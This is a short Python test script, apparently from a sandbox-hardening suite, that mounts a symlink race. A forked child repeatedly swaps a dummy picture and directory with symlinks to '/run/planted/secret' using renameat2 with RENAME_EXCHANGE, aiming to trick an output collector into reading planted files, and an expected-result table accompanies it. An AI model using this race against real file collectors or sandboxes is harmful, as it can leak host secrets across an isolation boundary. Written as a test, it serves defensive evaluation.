# SPDX-License-Identifier: Apache-2.0
"""W13: a picture and a directory that become links to planted files and what they were again, as fast as it goes, while the script
ends and who collects looks for pictures: a grandchild exchanges them (RENAME_EXCHANGE)."""
import os

from attack import library_call, say

EXPECT = {"found": {"exchanged": True}, "free": {"exchanged": True}}
AT_FDCWD, RENAME_EXCHANGE = -100, 2


def exchange(one, other):
    library_call("renameat2", AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE)


def azureml_main():
    mine, told = os.pipe()
    os.mkdir("directory")
    for name in ("picture.png", "directory/secret"):
        with open(name, "wb") as file:
            file.write(b"no picture")
    os.symlink("/run/planted/secret", "link.png")
    os.symlink("/run/planted", "other")
    if os.fork() == 0:
        for number in range(1 << 30):
            exchange(b"picture.png", b"link.png")
            exchange(b"directory", b"other")
            if number == 1000:
                os.write(told, b"x")
    say({"exchanged": os.read(mine, 1) == b"x"})
